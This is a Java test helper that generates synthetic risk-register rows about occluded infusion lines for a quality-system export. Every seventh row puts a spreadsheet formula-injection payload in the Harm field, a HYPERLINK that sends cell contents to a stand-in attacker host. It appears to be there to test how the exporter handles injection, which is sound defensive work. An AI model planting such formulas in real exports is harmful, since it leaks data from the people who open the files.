package org.eqms.trace.export;

import java.util.Iterator;
import java.util.List;
import java.util.NoSuchElementException;

/** A generated risk register of any length, produced row by row so that the test itself holds no rows. */
final class RiskRegisterRows implements Iterator<List<String>> {

    static final List<String> HEADERS = List.of("Hazard ID", "Hazard", "Hazardous situation", "Harm", "Severity",
            "P1 × P2", "Risk control", "Verification");

    private final int count;
    private int next;

    RiskRegisterRows(int count) {
        this.count = count;
    }

    static List<String> row(int i) {
        return List.of("HAZ-" + i, "Occluded infusion line no. " + i + " stops delivery of the drug",
                "Patient receives no drug for up to " + (i % 120) + " minutes during therapy",
                i % 7 == 0 ? "=HYPERLINK(\"http://evil.example/?\"&A1)" : "Under-dosing, deterioration of condition",
                "S" + (1 + i % 5), Integer.toString(i % 25 - 3), "RC-" + i + ": pressure sensor alarm, 30 s",
                "TC-" + i + " passed on build 1.4." + (i % 100));
    }

    @Override
    public boolean hasNext() {
        return next < count;
    }

    @Override
    public List<String> next() {
        if (!hasNext()) {
            throw new NoSuchElementException();
        }
        return row(next++);
    }
}
